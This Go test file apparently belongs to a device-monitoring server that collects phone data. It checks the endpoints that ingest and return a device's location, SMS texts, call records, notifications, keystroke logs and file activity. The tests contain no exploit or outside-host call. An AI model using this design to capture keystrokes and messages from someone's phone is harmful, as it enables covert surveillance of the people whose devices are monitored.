package http

import (
	"encoding/json"
	"net/http"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"fleetpanel.dev/device-console-service/pkg/common"
	"fleetpanel.dev/device-console-service/pkg/models"
	_ "fleetpanel.dev/device-console-service/pkg/testing"
)

func registerHTTPDevice(t *testing.T, rs *RestfulServer) string {
	t.Helper()
	deviceID := uuid.NewString()
	w := doJSON(rs, "POST", "/devices", map[string]any{"device_id": deviceID}, "")
	require.Equal(t, http.StatusCreated, w.Code, w.Body.String())
	return deviceID
}

func TestPostLog_AllCategories(t *testing.T) {
	common.SetTestLoggerNop()

	rs := setupTestServer()
	deviceID := registerHTTPDevice(t, rs)

	payloads := map[string]map[string]any{
		LogCategoryLocation: {
			"device_id": deviceID,
			"latitude":  37.77,
			"longitude": -122.41,
			"accuracy":  5.0,
		},
		LogCategorySms: {
			"device_id":    deviceID,
			"phone_number": "+15551234567",
			"message":      "hello",
			"type":         "received",
		},
		LogCategoryCall: {
			"device_id":    deviceID,
			"phone_number": "+15551234567",
			"type":         "outgoing",
			"duration":     42,
		},
		LogCategoryNotification: {
			"device_id": deviceID,
			"app_name":  "com.example.chat",
			"title":     "New message",
		},
		LogCategoryKeylog: {
			"device_id":   deviceID,
			"application": "com.example.browser",
			"text":        "typed text",
		},
		LogCategoryFile: {
			"device_id": deviceID,
			"path":      "/sdcard/DCIM/photo.jpg",
			"operation": "created",
			"size":      2048,
		},
	}

	for category, payload := range payloads {
		w := doJSON(rs, "POST", "/logs/"+category, payload, "")
		require.Equal(t, http.StatusCreated, w.Code, "category %s: %s", category, w.Body.String())
		assert.JSONEq(t, `{"status":"logged"}`, w.Body.String())
	}
}

func TestPostLog_FileAccessAlias(t *testing.T) {
	common.SetTestLoggerNop()

	rs := setupTestServer()
	token := registerAndLogin(t, rs)
	deviceID := registerHTTPDevice(t, rs)

	// Ingestion accepts the legacy path and stores into the file table.
	w := doJSON(rs, "POST", "/logs/file-access", map[string]any{
		"device_id": deviceID,
		"path":      "/sdcard/Download/report.pdf",
		"operation": "opened",
	}, "")
	require.Equal(t, http.StatusCreated, w.Code, w.Body.String())

	w = doJSON(rs, "GET", "/devices/"+deviceID+"/logs/file", nil, token)
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())

	var entries []models.FileLog
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &entries))
	require.Len(t, entries, 1)
	assert.Equal(t, "opened", entries[0].Operation)

	// The alias is ingestion-only.
	w = doJSON(rs, "GET", "/devices/"+deviceID+"/logs/file-access", nil, token)
	assert.Equal(t, http.StatusNotFound, w.Code)
}

func TestPostLog_EdgeCases(t *testing.T) {
	common.SetTestLoggerNop()

	rs := setupTestServer()

	{
		// unknown category
		w := doJSON(rs, "POST", "/logs/screenshot", map[string]any{
			"device_id": uuid.NewString(),
		}, "")
		assert.Equal(t, http.StatusNotFound, w.Code)
	}

	{
		// unknown device
		w := doJSON(rs, "POST", "/logs/location", map[string]any{
			"device_id": uuid.NewString(),
			"latitude":  1.0,
			"longitude": 2.0,
		}, "")
		assert.Equal(t, http.StatusNotFound, w.Code)
	}

	{
		// empty payload should be rejected
		w := doJSON(rs, "POST", "/logs/location", map[string]any{}, "")
		assert.Equal(t, http.StatusBadRequest, w.Code)
	}

	{
		// out of range coordinates should be rejected
		w := doJSON(rs, "POST", "/logs/location", map[string]any{
			"device_id": uuid.NewString(),
			"latitude":  91.0,
			"longitude": 2.0,
		}, "")
		assert.Equal(t, http.StatusBadRequest, w.Code)
	}
}

func TestGetDeviceLocations(t *testing.T) {
	common.SetTestLoggerNop()

	rs := setupTestServer()
	token := registerAndLogin(t, rs)
	deviceID := registerHTTPDevice(t, rs)

	now := time.Now().UTC()
	for _, ts := range []time.Time{
		now.Add(-48 * time.Hour),
		now.Add(-1 * time.Hour),
	} {
		w := doJSON(rs, "POST", "/logs/location", map[string]any{
			"device_id": deviceID,
			"latitude":  37.77,
			"longitude": -122.41,
			"timestamp": ts.Format(time.RFC3339),
		}, "")
		require.Equal(t, http.StatusCreated, w.Code, w.Body.String())
	}

	{
		// default window is the last 24 hours
		w := doJSON(rs, "GET", "/devices/"+deviceID+"/locations", nil, token)
		require.Equal(t, http.StatusOK, w.Code, w.Body.String())

		var entries []models.DeviceLocation
		require.NoError(t, json.Unmarshal(w.Body.Bytes(), &entries))
		assert.Len(t, entries, 1)
	}

	{
		w := doJSON(rs, "GET", "/devices/"+deviceID+"/locations?range=all", nil, token)
		require.Equal(t, http.StatusOK, w.Code)

		var entries []models.DeviceLocation
		require.NoError(t, json.Unmarshal(w.Body.Bytes(), &entries))
		assert.Len(t, entries, 2)
	}

	{
		w := doJSON(rs, "GET", "/devices/"+deviceID+"/locations?range=all&limit=1", nil, token)
		require.Equal(t, http.StatusOK, w.Code)

		var entries []models.DeviceLocation
		require.NoError(t, json.Unmarshal(w.Body.Bytes(), &entries))
		assert.Len(t, entries, 1)
	}
}

func TestGetDeviceLogs(t *testing.T) {
	common.SetTestLoggerNop()

	rs := setupTestServer()
	token := registerAndLogin(t, rs)
	deviceID := registerHTTPDevice(t, rs)

	w := doJSON(rs, "POST", "/logs/sms", map[string]any{
		"device_id":    deviceID,
		"phone_number": "+15551234567",
		"message":      "hello",
		"type":         "received",
	}, "")
	require.Equal(t, http.StatusCreated, w.Code, w.Body.String())

	{
		w := doJSON(rs, "GET", "/devices/"+deviceID+"/logs/sms", nil, token)
		require.Equal(t, http.StatusOK, w.Code, w.Body.String())

		var entries []models.SmsLog
		require.NoError(t, json.Unmarshal(w.Body.Bytes(), &entries))
		require.Len(t, entries, 1)
		assert.Equal(t, "hello", entries[0].Message)
	}

	{
		// unknown category
		w := doJSON(rs, "GET", "/devices/"+deviceID+"/logs/screenshot", nil, token)
		assert.Equal(t, http.StatusNotFound, w.Code)
	}

	{
		// unknown device
		w := doJSON(rs, "GET", "/devices/"+uuid.NewString()+"/logs/sms", nil, token)
		assert.Equal(t, http.StatusNotFound, w.Code)
	}

	{
		// no bearer token
		w := doJSON(rs, "GET", "/devices/"+deviceID+"/logs/sms", nil, "")
		assert.Equal(t, http.StatusUnauthorized, w.Code)
	}
}
